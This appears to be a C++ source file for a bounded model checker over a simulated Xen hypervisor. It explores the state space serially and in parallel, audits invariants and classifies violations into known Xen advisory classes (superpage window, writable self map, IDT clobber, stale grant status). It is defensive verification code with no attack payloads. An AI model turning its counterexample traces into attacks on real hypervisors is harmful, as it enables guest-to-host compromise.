/// Human-readable field-level differences between a parent state and its
/// violating successor, both expressed against the same root; capped so
/// counterexamples stay printable. Only frames in either state's dirty set
/// are examined — frames untouched by both resolve to the shared root and
/// cannot differ.
std::vector<std::string> diff_states(const StateView& before,
                                     const StateView& after) {
  constexpr std::size_t kMaxLines = 48;
  std::vector<std::string> out;
  std::uint64_t suppressed = 0;
  const auto add = [&](std::string line) {
    if (out.size() < kMaxLines) {
      out.push_back(std::move(line));
    } else {
      ++suppressed;
    }
  };

  if (before.crashed() != after.crashed()) {
    add(std::string{"hypervisor: "} +
        (after.crashed() ? "PANICKED" : "un-crashed"));
  }
  if (before.cpu_hung() != after.cpu_hung()) {
    add(std::string{"cpu0: "} + (after.cpu_hung() ? "WEDGED" : "released"));
  }

  for (const std::uint64_t m :
       merge_sorted(before.changed_page_infos(), after.changed_page_infos())) {
    const hv::PageInfo& a = before.page_info(m);
    const hv::PageInfo& b = after.page_info(m);
    std::string delta;
    if (a.owner != b.owner) {
      delta += " owner d" + std::to_string(a.owner) + " -> d" +
               std::to_string(b.owner);
    }
    if (a.type != b.type) {
      delta += " type " + hv::to_string(a.type) + " -> " + hv::to_string(b.type);
    }
    if (a.type_count != b.type_count) {
      delta += " type_count " + std::to_string(a.type_count) + " -> " +
               std::to_string(b.type_count);
    }
    if (a.ref_count != b.ref_count) {
      delta += " ref_count " + std::to_string(a.ref_count) + " -> " +
               std::to_string(b.ref_count);
    }
    if (a.validated != b.validated) {
      delta += std::string{" validated "} + (a.validated ? "yes" : "no") +
               " -> " + (b.validated ? "yes" : "no");
    }
    if (!delta.empty()) add("mfn " + hex(m) + ":" + delta);
  }

  // Memory content diffs: per-slot for frames that are (or were) page
  // tables or Xen-owned (the IDT lives there), summarized otherwise.
  for (const std::uint64_t m :
       merge_sorted(before.dirty_frames(), after.dirty_frames())) {
    const std::uint8_t* pa = before.frame(m);
    const std::uint8_t* pb = after.frame(m);
    if (std::memcmp(pa, pb, sim::kPageSize) == 0) continue;
    const bool decode = hv::is_pagetable_type(before.page_info(m).type) ||
                        hv::is_pagetable_type(after.page_info(m).type) ||
                        before.page_info(m).owner == hv::kDomXen;
    if (!decode) {
      add("mfn " + hex(m) + ": data changed");
      continue;
    }
    for (unsigned s = 0; s < sim::kPtEntries; ++s) {
      const std::uint64_t va = before.frame_u64(m, s);
      const std::uint64_t vb = after.frame_u64(m, s);
      if (va != vb) {
        add("mfn " + hex(m) + "[" + std::to_string(s) + "]: " + hex(va) +
            " -> " + hex(vb));
      }
    }
  }

  // Domain bookkeeping, matched by id.
  for (const hv::Domain& db : after.domains()) {
    const hv::Domain* da = nullptr;
    for (const hv::Domain& d : before.domains()) {
      if (d.id() == db.id()) da = &d;
    }
    const std::string who = "d" + std::to_string(db.id());
    if (da == nullptr) {
      add(who + ": created");
      continue;
    }
    if (da->cr3() != db.cr3()) {
      add(who + ": cr3 " + hex(da->cr3().raw()) + " -> " + hex(db.cr3().raw()));
    }
    if (!da->crashed() && db.crashed()) add(who + ": crashed");
    for (std::uint64_t p = 0; p < db.nr_pages(); ++p) {
      const auto ma = da->p2m(sim::Pfn{p});
      const auto mb = db.p2m(sim::Pfn{p});
      if (ma != mb) {
        add(who + ": p2m pfn " + std::to_string(p) + ": " +
            (ma ? "mfn " + hex(ma->raw()) : "-") + " -> " +
            (mb ? "mfn " + hex(mb->raw()) : "-"));
      }
    }
    std::set<std::uint64_t> pa_set, pb_set;
    for (const sim::Mfn m : da->pinned_tables()) pa_set.insert(m.raw());
    for (const sim::Mfn m : db.pinned_tables()) pb_set.insert(m.raw());
    for (const std::uint64_t m : pb_set) {
      if (pa_set.count(m) == 0) add(who + ": pinned mfn " + hex(m));
    }
    for (const std::uint64_t m : pa_set) {
      if (pb_set.count(m) == 0) add(who + ": unpinned mfn " + hex(m));
    }
  }

  // Grant-table deltas (version switches and mapping counts).
  for (const auto& [id, tb] : after.grants().tables) {
    const auto it = before.grants().tables.find(id);
    const unsigned va =
        it == before.grants().tables.end() ? 1 : it->second.version();
    if (va != tb.version()) {
      add("d" + std::to_string(id) + ": grant table v" + std::to_string(va) +
          " -> v" + std::to_string(tb.version()));
    }
  }
  if (before.grants().mappings.size() != after.grants().mappings.size()) {
    add("grant mappings: " + std::to_string(before.grants().mappings.size()) +
        " -> " + std::to_string(after.grants().mappings.size()));
  }

  if (suppressed != 0) {
    out.push_back("... (+" + std::to_string(suppressed) + " more)");
  }
  return out;
}

// ----------------------------------------------------------- classification

/// Which of the paper's erroneous-state families a violating state belongs
/// to, decided over the same SystemWalk the audit used.
std::vector<ErroneousStateClass> classify(const hv::Hypervisor& vmm,
                                          const hv::SystemWalk& walk,
                                          const hv::InvariantReport& report) {
  std::set<ErroneousStateClass> classes;
  std::set<hv::Invariant> explained;

  const auto violated = report.violated_set();
  const auto is_violated = [&](hv::Invariant inv) {
    for (const hv::Invariant v : violated)
      if (v == inv) return true;
    return false;
  };

  if (is_violated(hv::Invariant::IdtIntegrity)) {
    classes.insert(ErroneousStateClass::Xsa212IdtClobber);
    explained.insert(hv::Invariant::IdtIntegrity);
  }
  if (is_violated(hv::Invariant::GrantLifecycle)) {
    classes.insert(ErroneousStateClass::Xsa387StaleGrantStatus);
    explained.insert(hv::Invariant::GrantLifecycle);
  }
  if (is_violated(hv::Invariant::FrameTypeSafety)) {
    for (const hv::DomainWalk& dw : walk) {
      for (const hv::LeafMapping& m : dw.leaves) {
        if (!m.user || !m.writable) continue;
        const std::uint64_t n_frames = m.bytes / sim::kPageSize;
        for (std::uint64_t k = 0; k < n_frames; ++k) {
          const sim::Mfn f{m.mfn.raw() + k};
          if (!vmm.memory().contains(f)) break;
          if (hv::is_writable_pagetable_mapping(
                  true, vmm.frames().info(f).type)) {
            classes.insert(m.bytes > sim::kPageSize
                               ? ErroneousStateClass::Xsa148SuperpageWindow
                               : ErroneousStateClass::Xsa182WritableSelfMap);
          }
        }
      }
    }
    explained.insert(hv::Invariant::FrameTypeSafety);
    // A writable self map necessarily tampers the reserved slot too.
    explained.insert(hv::Invariant::ReservedSlotIntegrity);
  }

  for (const hv::Invariant inv : violated) {
    if (explained.count(inv) == 0) classes.insert(ErroneousStateClass::Other);
  }
  return {classes.begin(), classes.end()};
}

}  // namespace

std::string to_string(ErroneousStateClass c) {
  switch (c) {
    case ErroneousStateClass::Xsa148SuperpageWindow:
      return "XSA-148 superpage window";
    case ErroneousStateClass::Xsa182WritableSelfMap:
      return "XSA-182 writable self map";
    case ErroneousStateClass::Xsa212IdtClobber:
      return "XSA-212 IDT clobber";
    case ErroneousStateClass::Xsa387StaleGrantStatus:
      return "XSA-387 stale grant status";
    case ErroneousStateClass::Other: return "other invariant violation";
  }
  return "unknown";
}

std::string Counterexample::trace_string() const {
  std::string out;
  for (std::size_t i = 0; i < ops.size(); ++i) {
    if (i != 0) out += " ; ";
    out += ops[i].label;
  }
  return out;
}

// --------------------------------------------------------- serial BFS driver

namespace {

ModelCheckResult run_model_check_serial(const ModelCheckConfig& config) {
  ModelCheckResult result;
  result.config = config;
  result.threads_used = 1;

  Machine machine{config};
  hv::Hypervisor& vmm = machine.vmm;
  vmm.reset_snapshot_stats();

  const hv::HvSnapshot root = vmm.snapshot();
  std::unordered_set<std::uint64_t> visited{root.hash};
  result.states_explored = 1;

  // Violation records diff parent and child from their dirty sets against
  // the shared root — no full snapshot is ever taken for a counterexample.
  const auto record_violation = [&](const hv::HvDelta& parent_delta,
                                    const std::vector<Op>& ops,
                                    std::uint64_t state_hash,
                                    const hv::SystemWalk& walk,
                                    hv::InvariantReport report) {
    ++result.violations_found;
    const auto violated = report.violated_set();
    for (const hv::Invariant inv : violated) {
      ++result.invariant_hits[static_cast<std::size_t>(inv)];
    }
    const auto classes = classify(vmm, walk, report);
    for (const ErroneousStateClass c : classes) {
      ++result.class_hits[static_cast<std::size_t>(c)];
    }
    if (result.counterexamples.size() >= config.max_counterexamples) return;
    Counterexample cx;
    cx.ops = ops;
    cx.depth = static_cast<unsigned>(ops.size());
    cx.state_hash = state_hash;
    cx.violated = violated;
    cx.classes = classes;
    const hv::HvDelta child_delta = vmm.snapshot_delta(root);
    cx.state_diff = diff_states(StateView{root, parent_delta},
                                StateView{root, child_delta});
    cx.report = std::move(report);
    result.counterexamples.push_back(std::move(cx));
  };

  // The boot state itself must satisfy every invariant; a dirty root makes
  // everything downstream meaningless, so it is reported and terminal.
  {
    const hv::SystemWalk walk = hv::walk_system(vmm);
    hv::InvariantReport report = hv::InvariantAuditor{vmm}.audit(walk);
    if (!report.clean()) {
      record_violation(vmm.snapshot_delta(root), {}, root.hash, walk,
                       std::move(report));
      return result;
    }
  }

  // Each queued state carries its delta against the root, so expansion is
  // one delta-restore (O(dirty frames)) instead of restore-root-and-replay
  // (O(machine) + prefix re-execution). The replay fallback preserves the
  // old scheme; both must produce identical results.
  struct WorkItem {
    std::vector<Op> prefix;
    hv::HvDelta delta;  ///< state vs root (unused by the replay fallback)
  };
  std::deque<WorkItem> queue;
  queue.push_back(WorkItem{{}, vmm.snapshot_delta(root)});

  obs::SpanProfiler* const prof = config.profiler;
  bool stop = false;
  while (!queue.empty() && !stop) {
    const WorkItem item = std::move(queue.front());
    queue.pop_front();
    if (item.prefix.size() >= config.depth) continue;
    // Depth of the states this parent generates ("d1" = first op applied).
    const unsigned depth = static_cast<unsigned>(item.prefix.size()) + 1;
    if (config.status != nullptr) {
      config.status->checker_depth(depth, queue.size() + 1);
      config.status->checker_progress(result.states_explored,
                                      result.violations_found);
    }

    hv::HvDelta parent_delta;
    hv::HvSnapshot parent_full;  // replay fallback only
    if (config.use_replay_fallback) {
      vmm.restore(root);
      for (const Op& op : item.prefix) (void)apply_op(vmm, op);
      parent_full = vmm.snapshot();
      parent_delta = vmm.snapshot_delta(root);
    } else {
      (void)vmm.restore_delta(root, item.delta);
      parent_delta = item.delta;
    }
    const std::uint64_t parent_hash = parent_delta.hash;
    const auto restore_parent = [&] {
      if (config.use_replay_fallback) {
        vmm.restore(parent_full);
      } else {
        (void)vmm.restore_delta(root, parent_delta);
      }
    };

    const std::vector<Op> alphabet =
        enumerate_ops(vmm, config, machine.guests);
    std::uint64_t parent_applied = 0;  // deterministic expand/audit spans,
    std::uint64_t parent_audited = 0;  // mirrored by the parallel merge
    for (const Op& op : alphabet) {
      ++result.ops_applied;
      ++parent_applied;
      const long rc = apply_op(vmm, op);
      const std::uint64_t h = vmm.state_hash();
      if (h == parent_hash) {
        if (rc != hv::kOk) ++result.failed_ops;
        continue;  // nothing changed; nothing to restore
      }
      if (!visited.insert(h).second) {
        ++result.states_deduped;
        restore_parent();
        continue;
      }
      ++result.states_explored;
      ++parent_audited;

      std::vector<Op> trace = item.prefix;
      trace.push_back(op);
      const hv::SystemWalk walk = hv::walk_system(vmm);
      hv::InvariantReport report = hv::InvariantAuditor{vmm}.audit(walk);
      if (!report.clean()) {
        // Violating states are terminal: the counterexample is minimal by
        // BFS order, and exploring beyond a broken invariant only yields
        // derivative noise.
        record_violation(parent_delta, trace, h, walk, std::move(report));
      } else if (config.use_replay_fallback) {
        queue.push_back(WorkItem{std::move(trace), {}});
      } else {
        queue.push_back(WorkItem{std::move(trace), vmm.snapshot_delta(root)});
      }
      if (result.states_explored >= config.max_states) {
        result.truncated = true;
        stop = true;
        break;
      }
      restore_parent();
    }
    if (prof != nullptr && parent_applied != 0) {
      const std::string dname = "d" + std::to_string(depth);
      prof->add({obs::kSpanCheck, dname, obs::kSpanExpand}, 1, parent_applied);
      if (parent_audited != 0) {
        prof->add({obs::kSpanCheck, dname, obs::kSpanAudit}, parent_audited,
                  parent_audited);
      }
    }
  }

  const hv::SnapshotStats& stats = vmm.snapshot_stats();
  result.snapshot_frames_copied = stats.frames_copied;
  result.hash_frames_rehashed = stats.frames_rehashed;
  result.delta_restores = stats.delta_restores;
  result.full_restores = stats.full_restores;
  return result;
}

// ------------------------------------------------- parallel sharded explorer
//
// Depth-synchronous frontier sharding (DESIGN.md §12). The BFS frontier of
// one depth is split over N workers, each owning a private Machine plus its
// own root snapshot (identical boots make the roots byte-equal, so deltas
// are portable across workers via the foreign restore path). Each level
// runs in two parallel passes with one serial merge between them:
//
//   pass 1 (parallel)  every worker pulls parents from an atomic cursor,
//                      restores them, applies the whole alphabet, and
//                      records (parent, op, child-hash, changed, failed)
//                      outcomes into a private buffer. No audits, no
//                      captures — this pass only discovers the level's
//                      successor hashes.
//   merge  (serial)    all outcomes, sorted into (parent, op) lexicographic
//                      order, are replayed against the visited set with the
//                      serial driver's exact semantics: dedup, failed-op
//                      counting and the mid-level max_states truncation all
//                      land on the same pairs the serial BFS would pick.
//                      The survivors become claims.
//   pass 2 (parallel)  claims are re-derived (restore parent, re-apply the
//                      claimed op) and audited; violating states capture
//                      their report/classification/diff, clean states their
//                      next-depth delta — each into a pre-sized slot, so
//                      the final serial assembly emits violations,
//                      counterexamples and the next frontier in exactly the
//                      serial order.
//
// Determinism rests on three properties: the merge is a pure function of
// the (parent, op)-keyed outcome set; op application is a pure function of
// the restored state; and a child delta's dirty-frame set is
// parent-dirty ∪ op-writes on every machine (foreign restores stamp every
// delta frame, rewinds return frames to root generations), so diffs and
// reports never depend on which worker derived them.

/// Visited-state set striped over 64 mutexes: pass-1 workers concurrently
/// pre-classify hashes committed at earlier depths (contains), the serial
/// merge is the only writer (insert).
class VisitedSet {
 public:
  [[nodiscard]] bool contains(std::uint64_t h) const {
    const Stripe& s = stripe(h);
    const std::lock_guard<std::mutex> lock{s.mu};
    return s.set.count(h) != 0;
  }
  /// True if newly inserted.
  bool insert(std::uint64_t h) {
    Stripe& s = stripe(h);
    const std::lock_guard<std::mutex> lock{s.mu};
    return s.set.insert(h).second;
  }

 private:
  struct Stripe {
    mutable std::mutex mu;
    std::unordered_set<std::uint64_t> set;
  };
  [[nodiscard]] const Stripe& stripe(std::uint64_t h) const {
    return stripes_[h & (kStripes - 1)];
  }
  [[nodiscard]] Stripe& stripe(std::uint64_t h) {
    return stripes_[h & (kStripes - 1)];
  }
  static constexpr std::size_t kStripes = 64;
  std::array<Stripe, kStripes> stripes_;
};

/// One worker's private machine and root. All roots must hash identically
/// (asserted at construction time by the driver) — that is what makes one
/// worker's HvDelta meaningful on another worker's machine.
struct ShardWorker {
  Machine machine;
  hv::HvSnapshot root;

  explicit ShardWorker(const ModelCheckConfig& config) : machine{config} {
    machine.vmm.reset_snapshot_stats();
    root = machine.vmm.snapshot();
  }
};

/// A queued state: its op prefix and its delta against the shared root.
struct FrontierItem {
  std::vector<Op> prefix;
  hv::HvDelta delta;
};

/// Pass-1 record for one (parent, op) application.
struct PairOutcome {
  std::uint32_t parent = 0;  ///< index into the current frontier
  std::uint32_t op = 0;      ///< index into the parent's alphabet
  std::uint64_t hash = 0;    ///< child state hash
  bool changed = false;      ///< hash != parent hash
  bool failed = false;       ///< rc != 0
  bool committed_dup = false;  ///< hash already visited at an earlier depth
};

/// A (parent, op) pair the merge admitted as a newly visited state.
struct Claim {
  std::uint32_t parent = 0;
  std::uint32_t op = 0;
  std::uint64_t hash = 0;
};

/// Pass-2 re-derivation of one claimed state.
struct ChildCapture {
  Op op;                 ///< the claimed op (labels the trace)
  bool violating = false;
  hv::HvDelta delta;     ///< clean states: next-depth frontier entry
  hv::InvariantReport report;
  std::vector<hv::Invariant> violated;
  std::vector<ErroneousStateClass> classes;
  std::vector<std::string> state_diff;
};

/// Run fn(w) for w in [0, threads), worker 0 on the calling thread. A
/// worker's exception is captured and rethrown after every thread joined
/// (the others drain the shared cursor and exit).
void run_on_workers(unsigned threads, const std::function<void(unsigned)>& fn) {
  std::mutex error_mu;
  std::exception_ptr error;
  const auto wrapped = [&](unsigned w) {
    try {
      fn(w);
    } catch (...) {
      const std::lock_guard<std::mutex> lock{error_mu};
      if (!error) error = std::current_exception();
    }
  };
  std::vector<std::thread> pool;
  pool.reserve(threads - 1);
  for (unsigned w = 1; w < threads; ++w) pool.emplace_back(wrapped, w);
  wrapped(0);
  for (std::thread& t : pool) t.join();
  if (error) std::rethrow_exception(error);
}

ModelCheckResult run_model_check_parallel(const ModelCheckConfig& config,
                                          unsigned threads) {
  ModelCheckResult result;
  result.config = config;
  result.threads_used = threads;

  std::vector<std::unique_ptr<ShardWorker>> workers;
  workers.reserve(threads);
  for (unsigned w = 0; w < threads; ++w) {
    workers.push_back(std::make_unique<ShardWorker>(config));
    if (workers[w]->root.hash != workers[0]->root.hash ||
        workers[w]->root.mem_generation != workers[0]->root.mem_generation) {
      throw std::logic_error{
          "model checker: worker machines did not boot identically"};
    }
  }
  hv::Hypervisor& vmm0 = workers[0]->machine.vmm;
  const hv::HvSnapshot& root = workers[0]->root;
  result.states_explored = 1;

  // Root audit, identical to the serial driver: a dirty boot state is
  // reported and terminal.
  {
    const hv::SystemWalk walk = hv::walk_system(vmm0);
    hv::InvariantReport report = hv::InvariantAuditor{vmm0}.audit(walk);
    if (!report.clean()) {
      ++result.violations_found;
      const auto violated = report.violated_set();
      for (const hv::Invariant inv : violated) {
        ++result.invariant_hits[static_cast<std::size_t>(inv)];
      }
      const auto classes = classify(vmm0, walk, report);
      for (const ErroneousStateClass c : classes) {
        ++result.class_hits[static_cast<std::size_t>(c)];
      }
      Counterexample cx;
      cx.state_hash = root.hash;
      cx.violated = violated;
      cx.classes = classes;
      const hv::HvDelta root_delta = vmm0.snapshot_delta(root);
      cx.state_diff = diff_states(StateView{root, root_delta},
                                  StateView{root, root_delta});
      cx.report = std::move(report);
      result.counterexamples.push_back(std::move(cx));
      return result;
    }
  }

  VisitedSet visited;
  (void)visited.insert(root.hash);

  std::vector<FrontierItem> frontier;
  frontier.push_back(FrontierItem{{}, vmm0.snapshot_delta(root)});

  // Per-worker profilers (shared epoch, worker-numbered lanes) hold the
  // Sched-kind engine spans each worker records for itself; they merge
  // into the main profiler — order-independently — after the run. The
  // deterministic expand/audit spans are recorded by the serial-order
  // merge below, never by workers.
  obs::SpanProfiler* const prof = config.profiler;
  std::vector<std::unique_ptr<obs::SpanProfiler>> wprofs;
  if (prof != nullptr) {
    for (unsigned w = 0; w < threads; ++w) {
      wprofs.push_back(std::make_unique<obs::SpanProfiler>(prof->epoch()));
      wprofs[w]->set_tid(w);
      wprofs[w]->set_record_events(prof->record_events());
    }
  }

  bool stop = false;
  while (!frontier.empty() && !stop &&
         frontier.front().prefix.size() < config.depth) {
    const unsigned depth =
        static_cast<unsigned>(frontier.front().prefix.size()) + 1;
    const std::string dname = "d" + std::to_string(depth);
    if (config.status != nullptr) {
      config.status->checker_depth(depth, frontier.size());
      config.status->checker_progress(result.states_explored,
                                      result.violations_found);
    }
    // -------- pass 1: apply every op of every parent, record outcomes.
    const std::size_t n_parents = frontier.size();
    std::vector<std::vector<PairOutcome>> outcomes(threads);
    std::atomic<std::size_t> next_parent{0};
    obs::ScopedSpan classify_span{
        prof,
        {obs::kSpanCheck, dname, obs::kSpanClassify},
        obs::SpanKind::Sched};
    run_on_workers(threads, [&](unsigned w) {
      ShardWorker& self = *workers[w];
      hv::Hypervisor& vmm = self.machine.vmm;
      std::vector<PairOutcome>& out = outcomes[w];
      obs::ScopedSpan lane{
          prof != nullptr ? wprofs[w].get() : nullptr,
          {obs::kSpanCheck, dname, obs::kSpanClassify, "w" + std::to_string(w)},
          obs::SpanKind::Sched};
      while (true) {
        const std::size_t p = next_parent.fetch_add(1);
        if (p >= n_parents) return;
        const FrontierItem& item = frontier[p];
        (void)vmm.restore_delta(self.root, item.delta, /*foreign=*/true);
        const std::uint64_t parent_hash = item.delta.hash;
        const std::vector<Op> alphabet =
            enumerate_ops(vmm, config, self.machine.guests);
        lane.add_steps(alphabet.size());
        for (std::uint32_t o = 0; o < alphabet.size(); ++o) {
          const long rc = apply_op(vmm, alphabet[o]);
          const std::uint64_t h = vmm.state_hash();
          PairOutcome po;
          po.parent = static_cast<std::uint32_t>(p);
          po.op = o;
          po.hash = h;
          po.changed = h != parent_hash;
          po.failed = rc != hv::kOk;
          po.committed_dup = po.changed && visited.contains(h);
          out.push_back(po);
          if (po.changed) {
            (void)vmm.restore_delta(self.root, item.delta, /*foreign=*/true);
          }
        }
      }
    });

    classify_span.end();

    // -------- merge: replay the serial visit order over the outcome set.
    obs::ScopedSpan merge_span{prof,
                               {obs::kSpanCheck, dname, obs::kSpanMerge},
                               obs::SpanKind::Sched};
    std::vector<PairOutcome> all;
    {
      std::size_t total = 0;
      for (const auto& buf : outcomes) total += buf.size();
      all.reserve(total);
      for (const auto& buf : outcomes) {
        all.insert(all.end(), buf.begin(), buf.end());
      }
    }
    merge_span.add_steps(all.size());
    std::sort(all.begin(), all.end(),
              [](const PairOutcome& a, const PairOutcome& b) {
                return a.parent != b.parent ? a.parent < b.parent
                                            : a.op < b.op;
              });
    // Replaying serial order also lets the merge record the deterministic
    // per-parent expand/audit spans with the serial driver's exact tallies
    // (including the mid-parent cut on truncation).
    std::uint64_t parent_applied = 0;
    std::uint64_t parent_audited = 0;
    std::uint32_t span_parent = 0;
    const auto flush_parent_spans = [&] {
      if (prof == nullptr || parent_applied == 0) return;
      prof->add({obs::kSpanCheck, dname, obs::kSpanExpand}, 1, parent_applied);
      if (parent_audited != 0) {
        prof->add({obs::kSpanCheck, dname, obs::kSpanAudit}, parent_audited,
                  parent_audited);
      }
      parent_applied = 0;
      parent_audited = 0;
    };
    std::vector<Claim> claims;
    for (const PairOutcome& po : all) {
      if (po.parent != span_parent) {
        flush_parent_spans();
        span_parent = po.parent;
      }
      ++result.ops_applied;
      ++parent_applied;
      if (!po.changed) {
        if (po.failed) ++result.failed_ops;
        continue;
      }
      if (po.committed_dup || !visited.insert(po.hash)) {
        ++result.states_deduped;
        continue;
      }
      ++result.states_explored;
      ++parent_audited;
      claims.push_back(Claim{po.parent, po.op, po.hash});
      if (result.states_explored >= config.max_states) {
        // The serial BFS stops right after recording this state; every
        // lexicographically later pair was never executed there and must
        // not be counted here.
        result.truncated = true;
        stop = true;
        break;
      }
    }
    flush_parent_spans();
    merge_span.end();

    // -------- pass 2: re-derive and audit exactly the claimed states.
    std::vector<std::pair<std::size_t, std::size_t>> groups;  // per parent
    for (std::size_t i = 0; i < claims.size();) {
      std::size_t j = i;
      while (j < claims.size() && claims[j].parent == claims[i].parent) ++j;
      groups.emplace_back(i, j);
      i = j;
    }
    std::vector<ChildCapture> captures(claims.size());
    std::atomic<std::size_t> next_group{0};
    obs::ScopedSpan rederive_span{prof,
                                  {obs::kSpanCheck, dname, obs::kSpanRederive},
                                  obs::SpanKind::Sched};
    run_on_workers(threads, [&](unsigned w) {
      ShardWorker& self = *workers[w];
      hv::Hypervisor& vmm = self.machine.vmm;
      obs::ScopedSpan lane{
          prof != nullptr ? wprofs[w].get() : nullptr,
          {obs::kSpanCheck, dname, obs::kSpanRederive, "w" + std::to_string(w)},
          obs::SpanKind::Sched};
      while (true) {
        const std::size_t g = next_group.fetch_add(1);
        if (g >= groups.size()) return;
        const auto [begin, end] = groups[g];
        lane.add_steps(end - begin);
        const FrontierItem& item = frontier[claims[begin].parent];
        (void)vmm.restore_delta(self.root, item.delta, /*foreign=*/true);
        const std::vector<Op> alphabet =
            enumerate_ops(vmm, config, self.machine.guests);
        for (std::size_t i = begin; i < end; ++i) {
          const Claim& claim = claims[i];
          (void)apply_op(vmm, alphabet[claim.op]);
          if (vmm.state_hash() != claim.hash) {
            throw std::logic_error{
                "model checker: pass-2 re-derivation diverged from pass 1"};
          }
          ChildCapture& cap = captures[i];
          cap.op = alphabet[claim.op];
          const hv::SystemWalk walk = hv::walk_system(vmm);
          hv::InvariantReport report = hv::InvariantAuditor{vmm}.audit(walk);
          if (!report.clean()) {
            cap.violating = true;
            cap.violated = report.violated_set();
            cap.classes = classify(vmm, walk, report);
            const hv::HvDelta child = vmm.snapshot_delta(self.root);
            cap.state_diff = diff_states(StateView{self.root, item.delta},
                                         StateView{self.root, child});
            cap.report = std::move(report);
          } else {
            cap.delta = vmm.snapshot_delta(self.root);
          }
          if (i + 1 < end) {
            (void)vmm.restore_delta(self.root, item.delta, /*foreign=*/true);
          }
        }
      }
    });

    rederive_span.end();

    // -------- assembly: violations and the next frontier, in claim order.
    std::vector<FrontierItem> next_frontier;
    for (std::size_t i = 0; i < claims.size(); ++i) {
      ChildCapture& cap = captures[i];
      std::vector<Op> trace = frontier[claims[i].parent].prefix;
      trace.push_back(std::move(cap.op));
      if (cap.violating) {
        ++result.violations_found;
        for (const hv::Invariant inv : cap.violated) {
          ++result.invariant_hits[static_cast<std::size_t>(inv)];
        }
        for (const ErroneousStateClass c : cap.classes) {
          ++result.class_hits[static_cast<std::size_t>(c)];
        }
        if (result.counterexamples.size() < config.max_counterexamples) {
          Counterexample cx;
          cx.ops = std::move(trace);
          cx.depth = static_cast<unsigned>(cx.ops.size());
          cx.state_hash = claims[i].hash;
          cx.violated = std::move(cap.violated);
          cx.classes = std::move(cap.classes);
          cx.state_diff = std::move(cap.state_diff);
          cx.report = std::move(cap.report);
          result.counterexamples.push_back(std::move(cx));
        }
      } else if (!stop) {
        next_frontier.push_back(
            FrontierItem{std::move(trace), std::move(cap.delta)});
      }
    }
    frontier = std::move(next_frontier);
  }

  if (prof != nullptr) {
    for (const auto& wp : wprofs) prof->merge(*wp);
  }

  hv::SnapshotStats total{};
  for (const auto& w : workers) total += w->machine.vmm.snapshot_stats();
  result.snapshot_frames_copied = total.frames_copied;
  result.hash_frames_rehashed = total.frames_rehashed;
  result.delta_restores = total.delta_restores;
  result.full_restores = total.full_restores;
  return result;
}

}  // namespace

// --------------------------------------------------------------- dispatcher

ModelCheckResult run_model_check(const ModelCheckConfig& config) {
  unsigned threads = config.threads != 0
                         ? config.threads
                         : std::max(1u, std::thread::hardware_concurrency());
  // More workers than cores only adds machines to boot; cap generously.
  threads = std::min(threads, 32u);
  if (config.use_replay_fallback) threads = 1;
  if (config.status != nullptr) config.status->checker_begin();
  ModelCheckResult result;
  {
    // Root of the deterministic span tree; per-depth children hang off it.
    obs::ScopedSpan check_span{config.profiler, obs::kSpanCheck};
    result = threads <= 1 ? run_model_check_serial(config)
                          : run_model_check_parallel(config, threads);
  }
  if (config.status != nullptr) {
    config.status->checker_progress(result.states_explored,
                                    result.violations_found);
    config.status->checker_end();
  }
  return result;
}

// ------------------------------------------------------------------- report

std::string render_report(const ModelCheckResult& r) {
  std::string out;
  out += "model check: xen " + r.config.version.to_string() + ", depth " +
         std::to_string(r.config.depth) + ", " +
         std::to_string(r.config.guest_domains) + " guest(s) of " +
         std::to_string(r.config.domain_pages) + " pages, machine " +
         std::to_string(r.config.machine_frames) + " frames" +
         (r.config.include_grant_ops ? ", grant ops on" : "") + "\n";
  out += "  states explored: " + std::to_string(r.states_explored) +
         "  (ops applied " + std::to_string(r.ops_applied) + ", deduped " +
         std::to_string(r.states_deduped) + ", refused " +
         std::to_string(r.failed_ops) + ")" +
         (r.truncated ? "  [TRUNCATED at max_states]" : "") + "\n";
  out += "  violating states: " + std::to_string(r.violations_found) + "\n";
  out += "  erroneous-state classes:\n";
  for (std::size_t c = 0; c < kErroneousStateClassCount; ++c) {
    out += "    " + to_string(static_cast<ErroneousStateClass>(c)) + ": ";
    out += r.class_hits[c] != 0
               ? "REACHED (" + std::to_string(r.class_hits[c]) + " state(s))"
               : "not reached";
    out += "\n";
  }
  for (std::size_t i = 0; i < r.counterexamples.size(); ++i) {
    const Counterexample& cx = r.counterexamples[i];
    out += "  counterexample #" + std::to_string(i + 1) + " (depth " +
           std::to_string(cx.depth) + ", hash " + hex(cx.state_hash) + ")\n";
    for (std::size_t s = 0; s < cx.ops.size(); ++s) {
      out += "    " + std::to_string(s + 1) + ". " + cx.ops[s].label + "\n";
    }
    out += "    violates:";
    for (const hv::Invariant inv : cx.violated) out += " " + hv::to_string(inv);
    out += "\n";
    out += "    classes:";
    for (const ErroneousStateClass c : cx.classes) out += " [" + to_string(c) + "]";
    out += "\n";
    out += "    state diff vs parent:\n";
    for (const std::string& line : cx.state_diff) {
      out += "      " + line + "\n";
    }
    for (const hv::InvariantFinding& f : cx.report.findings) {
      out += "    finding: " + hv::to_string(f.invariant) + ": " + f.detail +
             "\n";
    }
  }
  return out;
}

std::string render_engine_stats(const ModelCheckResult& r) {
  return "snapshot engine (" + std::to_string(r.threads_used) +
         " worker(s)): " + std::to_string(r.delta_restores) + " delta + " +
         std::to_string(r.full_restores) + " full restores, frames copied " +
         std::to_string(r.snapshot_frames_copied) +
         ", frame digests redone " + std::to_string(r.hash_frames_rehashed) +
         "\n";
}

GateVerdict evaluate_expectation(const ModelCheckResult& result,
                                 std::string_view expect,
                                 bool allow_truncated) {
  const std::string version = result.config.version.to_string();
  GateVerdict v;
  if (expect == "clean") {
    if (!result.clean()) {
      v.message = "FAIL: expected clean, found " +
                  std::to_string(result.violations_found) +
                  " violating state(s)";
      return v;
    }
    if (result.truncated && !allow_truncated) {
      // "No violation found" means nothing when the search never covered
      // the bounded space: the clipped region could hold one.
      v.message = "FAIL: expected clean, but the search was TRUNCATED at "
                  "max_states (" +
                  std::to_string(result.states_explored) +
                  " states explored); the bounded space was not covered — "
                  "raise --max-states or pass --allow-truncated";
      return v;
    }
    v.pass = true;
    v.message = result.truncated
                    ? "OK: no invariant violation in the TRUNCATED space "
                      "(xen " + version + "; coverage incomplete)"
                    : "OK: no invariant violation in the bounded space (xen " +
                          version + ")";
    return v;
  }
  bool any_xsa = false;
  for (std::size_t c = 0; c + 1 < kErroneousStateClassCount; ++c) {
    any_xsa |= result.reached(static_cast<ErroneousStateClass>(c));
  }
  if (!any_xsa) {
    v.message = "FAIL: expected an XSA erroneous state, none reached";
    return v;
  }
  v.pass = true;
  v.message = "OK: XSA erroneous state(s) reachable (xen " + version + ")";
  return v;
}

